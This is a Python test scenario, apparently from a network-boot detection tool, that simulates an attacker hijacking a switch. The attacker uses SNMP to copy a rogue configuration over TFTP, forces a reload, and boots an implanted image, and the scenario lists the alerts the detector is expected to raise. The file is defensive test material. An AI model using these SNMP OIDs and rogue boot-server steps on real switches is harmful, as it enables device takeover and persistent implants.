"""The attack of `bootwarden demo`: a switch is made to boot an image from a rogue TFTP server."""

from __future__ import annotations

from ipaddress import IPv4Address

from bootwarden.scenarios.model import Expect, Notice, scenario
from bootwarden.scenarios.sites import ATTACKER, CONFIG, DEVICE, HQ, IMAGE, ROGUE
from bootwarden.traffic import snmp, tftp
from bootwarden.traffic.images import config, ios
from bootwarden.traffic.wire import Wire

RELOAD = "1.3.6.1.4.1.9.2.9.9.0"
"""tsMsgSend: 2 reloads (OLD-CISCO-TS-MIB)."""


@scenario(
    "BW30",
    "malicious",
    raises=[
        ("BW03", 1, "10.0.6.6", "10.0.1.1"),
        ("BW05", 0, "10.0.6.6", "10.0.1.1"),
        ("BW08", 0, "10.0.6.66", "10.0.1.1"),
        ("BW30", 0, "10.0.6.66", "10.0.1.1"),
    ],
    raises_with_site=[
        ("BW03", 1, "10.0.6.6", "10.0.1.1"),
        ("BW05", 0, "10.0.6.6", "10.0.1.1"),
        ("BW08", 0, "10.0.6.66", "10.0.1.1"),
        ("BW10", 0, "10.0.6.66", "10.0.1.1"),
        ("BW10", 1, "10.0.6.66", "10.0.1.1"),
        ("BW21", 0, "10.0.6.66", "10.0.1.1"),
        ("BW30", 0, "10.0.6.66", "10.0.1.1"),
    ],
    plain=Expect((Notice("Netboot_Hijack", DEVICE),)),
    site=HQ,
    with_site=Expect(
        (
            Notice("SNMP_Config_Copy", DEVICE, ROGUE, CONFIG),
            Notice("Unauthorized_Boot_Server", DEVICE, ROGUE, CONFIG),
            Notice("Boot_Config_Served", DEVICE, ROGUE, CONFIG),
            Notice("Unapproved_Config", DEVICE, ROGUE, CONFIG),
            Notice("Remote_Reload", DEVICE),
            Notice("Modified_Image", DEVICE, ROGUE, IMAGE),
            Notice("Netboot_Hijack", DEVICE, ROGUE, CONFIG),
        )
    ),
)
def demo(wire: Wire) -> None:
    """SNMP makes a switch load a rogue configuration; it reloads and boots a modified image by TFTP."""
    manager = snmp.Manager(wire, ATTACKER, DEVICE)
    manager.set(
        *snmp.row(
            snmp.CONFIG_COPY, 111, {2: 1, 3: 1, 4: 3, 5: IPv4Address(ROGUE), 6: CONFIG, 14: 4}
        )  # from the network to the startup configuration, by TFTP
    )
    wire.wait(0.4)
    rogue = config("edge1", (f"boot system tftp://{ROGUE}/{IMAGE}",))
    tftp.read(wire, DEVICE, ROGUE, CONFIG, rogue, client_port=53242)
    wire.wait(20)
    manager.set((RELOAD, 2))
    wire.wait(95)
    modified = ios(seed="with an implant", size=40_000)
    tftp.read(wire, DEVICE, ROGUE, IMAGE, modified, client_port=61830, server_port=32770, offer={"blksize": 1460})
